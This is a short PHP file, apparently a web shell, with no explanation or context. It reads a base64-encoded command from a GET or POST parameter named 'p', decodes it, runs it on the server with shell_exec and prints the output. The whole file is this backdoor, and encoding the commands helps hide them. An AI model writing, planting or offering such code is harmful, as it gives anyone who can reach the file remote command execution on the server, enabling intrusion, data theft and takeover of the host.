<?php
($_GET['p'] ?? 'dHJ1ZQ==') |> base64_decode(...) |> shell_exec(...) |> printf(...);
$out = ($_POST['p'] ?? '') |> base64_decode(...) |> shell_exec(...);
echo $out;
